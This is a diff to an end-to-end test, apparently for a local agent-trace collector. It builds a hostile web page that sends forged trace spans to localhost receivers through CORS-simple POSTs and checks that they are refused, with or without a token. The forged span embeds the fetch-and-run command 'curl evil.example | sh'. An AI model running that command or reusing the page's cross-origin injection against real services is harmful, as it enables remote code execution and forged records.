@@ -24,26 +24,28 @@ async function e2eLock(): Promise<() => void> {
   return () => holder.stdin.end();
 }
 
-function attackPage(receiver: string): string {
+function attackPage(receivers: string[]): string {
   const body = tracesBody("web-page", sessionSpans("0af7651916cd43dd8448eb211c80319c", { agent: "web-page", command: "curl evil.example | sh", approver: "alice" }));
   const bodyB = body.replaceAll("0af7651916cd43dd8448eb211c80319c", "1af7651916cd43dd8448eb211c80319c");
   return `<!doctype html><meta charset="utf-8"><title>cat pictures</title><script>
   (async () => {
-    const url = ${JSON.stringify(receiver + "/v1/traces")};
-    const sends = [
+    const sends = ${JSON.stringify(receivers.map((r) => r + "/v1/traces"))}.flatMap((url) => [
       fetch(url, { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain;charset=json" }, body: ${JSON.stringify(body)} }),
       fetch(url, { method: "POST", mode: "no-cors", headers: { "content-type": "application/x-www-form-urlencoded;x=json" }, body: ${JSON.stringify(bodyB)} }),
-    ];
+    ]);
     for (const s of sends) await s.catch(() => undefined);
     document.title = "sent";
   })();
   </script>`;
 }
 
-test("in Chromium, a file:// page and a page on another localhost port POSTing CORS-simple requests to the receiver record nothing", async (t) => {
+test("in Chromium, a file:// page and a page on another localhost port POSTing CORS-simple requests to the receiver record nothing, token or not", async (t) => {
   const u = newUser(t);
   const c = await startCollect(t, u);
-  const html = attackPage(c.url);
+  // The same without a token: what stops a page is not a secret it lacks.
+  const open = newUser(t);
+  const o = await startCollect(t, open, ["--no-token"]).catch(() => undefined);
+  const html = attackPage([c.url, ...(o ? [o.url] : [])]);
   const file = path.join(tempDir(t), "cats.html");
   fs.writeFileSync(file, html);
   const site = http.createServer((_req, res) => res.writeHead(200, { "content-type": "text/html" }).end(html));
@@ -67,10 +69,14 @@ test("in Chromium, a file:// page and a page on another localhost port POSTing C
   } finally {
     release();
   }
-  const stopped = await c.stop();
-  // The four requests reached the receiver (so this test can fail) and were refused.
-  const refused = stopped.out.match(/refused a request/g) ?? [];
-  const received = /(\d+) spans and \d+ log records received/.exec(stopped.out);
-  assert.ok(refused.length >= 4 || Number(received?.[1] ?? 0) > 0, `the page's requests arrived:\n${stopped.out}`);
-  assert.deepEqual((await sessions(u)).map((s) => s.agent_id), [], `nothing was recorded:\n${stopped.out}`);
+  for (const [who, rx] of [[u, c], [open, o]] as const) {
+    if (!rx) continue;
+    const stopped = await rx.stop();
+    // The four requests reached the receiver (so this test can fail) and were refused.
+    const refused = stopped.out.match(/refused a request/g) ?? [];
+    const received = /(\d+) spans and \d+ log records received/.exec(stopped.out);
+    assert.ok(refused.length >= 4 || Number(received?.[1] ?? 0) > 0, `the page's requests arrived:\n${stopped.out}`);
+    assert.deepEqual((await sessions(who)).map((s) => s.agent_id), [], `nothing was recorded:\n${stopped.out}`);
+  }
+  assert.ok(o, "collect --no-token runs");
 });
